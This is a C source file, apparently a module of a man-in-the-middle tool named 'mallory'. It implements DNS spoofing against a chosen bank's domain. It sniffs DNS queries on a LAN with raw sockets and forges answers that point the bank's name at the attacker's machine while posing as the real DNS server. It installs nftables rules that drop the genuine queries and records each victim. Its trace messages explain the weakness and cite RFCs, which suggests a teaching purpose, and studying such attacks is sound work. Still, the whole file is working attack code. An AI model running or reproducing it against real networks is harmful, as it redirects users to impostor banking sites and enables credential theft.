#include "dnsspoof.h"

#include <arpa/inet.h>
#include <errno.h>
#include <net/if.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <unistd.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h> /* after the C library's */

#include "glassnet/proto/dns.h"
#include "glassnet/proto/ip.h"
#include "glassnet/proto/transport.h"
#include "glassnet/wire.h"

#include "redirect.h"

#define TABLE "mallory_dns"

enum { DNS_PORT = 53, IP_HEADER = 20, UDP_HEADER = 8, DNS_HEADER = 12, TTL = 60, EDNS_SIZE = 1232 };

/* --- the question --- */

/* The bank's names: its own, and with this before it. */
static const char *const below[] = {"", "www"};
enum { N_BELOW = sizeof below / sizeof *below };

static bool is_the_banks(const char *name, const char *bank)
{
	char one[128];
	for (size_t i = 0; i < N_BELOW; i++) {
		snprintf(one, sizeof one, "%s%s%s.", below[i], below[i][0] ? "." : "", bank);
		if (strcasecmp(name, one) == 0)
			return true;
	}
	return false;
}

struct question {
	struct ipv4 ip;
	struct udp udp;
	struct dns dns;
	const uint8_t *msg;
	size_t len;
};

static bool read_question(struct question *q, const uint8_t *p, size_t len)
{
	size_t at;

	if (ipv4_parse(&q->ip, p, len, &at) != ERR_OK || q->ip.protocol != IPPROTO_IS_UDP || q->ip.cut || q->ip.mf ||
	    q->ip.frag_off != 0)
		return false;
	const uint8_t *udp = p + q->ip.header_len;
	if (udp_parse(&q->udp, udp, q->ip.payload_len, &at) != ERR_OK || q->udp.dport != DNS_PORT || q->udp.cut)
		return false;
	q->msg = udp + UDP_HEADER;
	q->len = q->udp.data_len;
	if (dns_parse(&q->dns, q->msg, q->len, &at) != ERR_OK)
		return false;
	const struct dns_rr *rr = &q->dns.question;
	return !q->dns.response && q->dns.opcode == 0 && q->dns.count[DNS_QUESTION] == 1 && q->dns.has_question &&
	       rr->off == DNS_HEADER && rr->klass == 1 && (rr->type == DNS_A || rr->type == DNS_AAAA);
}

/* --- the answer --- */

/* RFC 1035 4.1: the question as it was asked (its letters, too), and one address, or none of this kind. */
static size_t write_message(uint8_t *out, size_t cap, const struct question *q, const struct ip *self)
{
	struct wr w = wr_init(out, cap);
	bool has_answer = q->dns.question.type == DNS_A;

	wr_u16(&w, q->dns.id);
	wr_u16(&w, (uint16_t)(0x8400 | (q->dns.rd ? 0x0100 : 0))); /* an answer, and with authority */
	wr_u16(&w, 1);
	wr_u16(&w, has_answer);
	wr_u16(&w, 0);
	wr_u16(&w, q->dns.has_edns);
	wr_bytes(&w, q->msg + q->dns.question.off, q->dns.question.len);
	if (has_answer) {
		wr_u16(&w, 0xc000 | DNS_HEADER); /* the name: see the question */
		wr_u16(&w, DNS_A);
		wr_u16(&w, 1);
		wr_u32(&w, TTL);
		wr_u16(&w, 4);
		wr_bytes(&w, self->b, 4);
	}
	if (q->dns.has_edns) { /* RFC 6891 6.1.1: whoever is asked with it answers with it */
		wr_u8(&w, 0);
		wr_u16(&w, DNS_OPT);
		wr_u16(&w, EDNS_SIZE);
		wr_u32(&w, q->dns.dnssec_ok ? 0x8000 : 0);
		wr_u16(&w, 0);
	}
	return w.bad ? 0 : w.pos;
}

static size_t wrap(uint8_t *out, const struct question *q, size_t n)
{
	struct wr w = wr_init(out, IP_HEADER + UDP_HEADER);
	size_t udp_len = UDP_HEADER + n;
	uint8_t pseudo[12];

	wr_u16(&w, 0x4500);
	wr_u16(&w, (uint16_t)(IP_HEADER + udp_len));
	wr_u16(&w, 0);
	wr_u16(&w, 0x4000); /* do not fragment */
	wr_u8(&w, 64);
	wr_u8(&w, IPPROTO_IS_UDP);
	wr_u16(&w, 0);
	wr_bytes(&w, q->ip.dst.b, 4); /* as if the server that was asked had sent it */
	wr_bytes(&w, q->ip.src.b, 4);
	wr_u16(&w, DNS_PORT);
	wr_u16(&w, q->udp.sport);
	wr_u16(&w, (uint16_t)udp_len);
	wr_u16(&w, 0);
	memcpy(pseudo, out + 12, 8);
	pseudo[8] = 0;
	pseudo[9] = IPPROTO_IS_UDP;
	pseudo[10] = (uint8_t)(udp_len >> 8);
	pseudo[11] = (uint8_t)udp_len;
	uint16_t sum = inet_checksum(out, IP_HEADER, NULL, 0);
	out[10] = (uint8_t)(sum >> 8);
	out[11] = (uint8_t)sum;
	sum = inet_checksum(pseudo, sizeof pseudo, out + IP_HEADER, udp_len);
	sum = sum ? sum : 0xffff; /* RFC 768: zero would mean that there is none */
	out[IP_HEADER + 6] = (uint8_t)(sum >> 8);
	out[IP_HEADER + 7] = (uint8_t)sum;
	return IP_HEADER + udp_len;
}

size_t dnsspoof_answer(uint8_t out[static DNSSPOOF_PACKET_MAX], const uint8_t *p, size_t len, const char *bank,
    const struct ip *self, struct dnsspoof_lie *lie)
{
	struct question q;
	struct text name;

	if (!read_question(&q, p, len) || memcmp(q.ip.dst.b, self->b, 4) == 0) /* who asks mallory itself is served */
		return 0;
	name = text_init(lie->name, sizeof lie->name);
	dns_name_text(&name, q.msg, q.len, q.dns.question.name_off);
	if (!is_the_banks(lie->name, bank))
		return 0;
	ip_text(lie->server, &q.ip.dst);
	ip_text(lie->victim, &q.ip.src);
	lie->aaaa = q.dns.question.type == DNS_AAAA;
	size_t room = DNSSPOOF_PACKET_MAX - IP_HEADER - UDP_HEADER;
	size_t n = write_message(out + IP_HEADER + UDP_HEADER, room, &q, self);
	return n ? wrap(out, &q, n) : 0;
}

/* --- the true answer must not come --- */

/* One name in a packet, as nft compares it: small and capital letters are alike (RFC 4343). */
static size_t put_match(char *out, size_t cap, unsigned bit, const char *name)
{
	char mask[2 * 64 + 1] = "", value[2 * 64 + 1] = "";
	size_t n = 0;

	for (const char *label = name; *label && n + 2 < 64;) {
		size_t len = strcspn(label, ".");
		snprintf(mask + 2 * n, 3, "ff");
		snprintf(value + 2 * n, 3, "%02x", (unsigned)len & 0xff);
		n++;
		for (size_t i = 0; i < len && n + 1 < 64; i++, n++) {
			bool letter = (label[i] | 0x20) >= 'a' && (label[i] | 0x20) <= 'z';
			snprintf(mask + 2 * n, 3, "%s", letter ? "df" : "ff");
			snprintf(value + 2 * n, 3, "%02x", letter ? label[i] & 0xdf : label[i] & 0xff);
		}
		label += len + (label[len] == '.');
	}
	return (size_t)snprintf(out, cap, "@th,%u,%zu & 0x%s == 0x%s", bit, 8 * n, mask, value);
}

static size_t wire_len(const char *name)
{
	return strlen(name) + 1; /* each dot is a length, and one more at the begin */
}

size_t dnsspoof_rules(char *out, size_t cap, const char *ifname, const char *bank)
{
	unsigned begin = 8 * (UDP_HEADER + DNS_HEADER);
	size_t n = (size_t)snprintf(out, cap,
	    "add table ip " TABLE "\ndelete table ip " TABLE "\ntable ip " TABLE " {\n\tchain questions {\n"
	    "\t\ttype filter hook forward priority filter; policy accept;\n");
	for (size_t i = 0; i < N_BELOW && n < cap; i++) {
		char prefix[128] = "", match[400];
		unsigned at = begin;
		if (below[i][0]) {
			put_match(prefix, sizeof prefix, at, below[i]);
			at += (unsigned)(8 * wire_len(below[i]));
		}
		put_match(match, sizeof match, at, bank);
		at += (unsigned)(8 * wire_len(bank));
		/* the name's end and the type: A or AAAA */
		n += (size_t)snprintf(out + n, cap - n,
		    "\t\tiifname \"%s\" udp dport %d %s %s @th,%u,24 { 0x000001, 0x00001c } drop\n", ifname, DNS_PORT,
		    prefix, match, at);
	}
	if (n < cap)
		n += (size_t)snprintf(out + n, cap - n, "\t}\n}\n");
	return n;
}

/* --- packets --- */

static void answer(struct dnsspoof *d, const uint8_t *p, size_t len)
{
	uint8_t out[DNSSPOOF_PACKET_MAX];
	struct dnsspoof_lie lie;
	size_t n = dnsspoof_answer(out, p, len, d->bank_name, &d->lan.self, &lie);
	if (n == 0)
		return;
	struct sockaddr_in to = {.sin_family = AF_INET};
	char self[IP_TEXT];
	memcpy(&to.sin_addr, out + 16, 4);
	if (sendto(d->out, out, n, 0, (struct sockaddr *)&to, sizeof to) != (ssize_t)n) {
		ev_warning(d->trace, "no answer could be sent to %s: %s", lie.victim, strerror(errno));
		return;
	}
	char victim[sizeof lie.victim];
	snprintf(victim, sizeof victim, "%s", lie.victim);
	if (d->ap)
		accesspoint_name(d->ap, victim, lie.victim, sizeof lie.victim);
	if (d->n_lies++ == 0)
		ev_explain(d->trace,
		    "Nothing in an answer of DNS says who sent it but the address it seems to come from, and "
		    "whoever is on the way can write any. Only a signature (DNSSEC) shows that it is the "
		    "zone's own, to those who check it.");
	if (d->n < DNSSPOOF_KEPT)
		d->lies[d->n++] = lie;
	ip_text(self, &d->lan.self);
	ev_decision(d->trace, "dns-spoof", "RFC 3833 2.1",
	    "%s asks %s for %s %s: mallory answers in its place, %s%s. The "
	    "question goes no further",
	    lie.victim, lie.server, lie.name, lie.aaaa ? "AAAA" : "A", lie.aaaa ? "there is none" : "",
	    lie.aaaa ? "" : self);
}

static void on_packet(uv_poll_t *h, int status, int events)
{
	(void)events;
	struct dnsspoof *d = h->data;
	for (int i = 0; !status && i < 64; i++) {
		uint8_t p[DNSSPOOF_PACKET_MAX];
		struct sockaddr_ll from;
		socklen_t from_len = sizeof from;
		ssize_t n = recvfrom(d->in, p, sizeof p, 0, (struct sockaddr *)&from, &from_len);
		if (n < 0)
			break;
		if (from.sll_pkttype != PACKET_OUTGOING)
			answer(d, p, (size_t)n);
	}
	trace_flush(d->trace);
}

static enum err open_sockets(struct dnsspoof *d)
{
	struct sockaddr_ll at = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP)};

	at.sll_ifindex = (int)if_nametoindex(d->lan.ifname);
	d->in = socket(AF_PACKET, SOCK_DGRAM | SOCK_NONBLOCK | SOCK_CLOEXEC, htons(ETH_P_IP));
	if (d->in < 0 || bind(d->in, (struct sockaddr *)&at, sizeof at) != 0)
		return errno == EPERM ? ERR_PERM : ERR_NET;
	d->out = socket(AF_INET, SOCK_RAW | SOCK_NONBLOCK | SOCK_CLOEXEC, IPPROTO_RAW);
	return d->out >= 0 ? ERR_OK : errno == EPERM ? ERR_PERM : ERR_NET;
}

enum err dnsspoof_start(struct dnsspoof *d, uv_loop_t *loop, const struct lan *lan)
{
	char rules[2048];

	d->lan = *lan;
	d->in = d->out = -1;
	if (dnsspoof_rules(rules, sizeof rules, lan->ifname, d->bank_name) >= sizeof rules)
		return ERR_TOO_LONG;
	enum err e = open_sockets(d);
	if (!e)
		e = redirect_rules(rules);
	d->ruled = !e;
	if (!e && uv_poll_init(loop, &d->poll, d->in))
		e = ERR_INTERNAL;
	if (e)
		return e;
	d->polled = true;
	d->poll.data = d;
	return uv_poll_start(&d->poll, UV_READABLE, on_packet) ? ERR_INTERNAL : ERR_OK;
}

void dnsspoof_stop(struct dnsspoof *d)
{
	if (d->polled)
		uv_close((uv_handle_t *)&d->poll, NULL);
	d->polled = false;
	if (d->ruled)
		redirect_end(TABLE);
	d->ruled = false;
	if (d->in >= 0)
		close(d->in);
	if (d->out >= 0)
		close(d->out);
	d->in = d->out = -1;
}

json_t *dnsspoof_json(const struct dnsspoof *d)
{
	json_t *all = json_array();
	for (size_t i = 0; all && i < d->n; i++)
		json_array_append_new(
		    all, json_pack("{s:s, s:s, s:s, s:s}", "server", d->lies[i].server, "victim", d->lies[i].victim,
		             "name", d->lies[i].name, "type", d->lies[i].aaaa ? "AAAA" : "A"));
	return all;
}
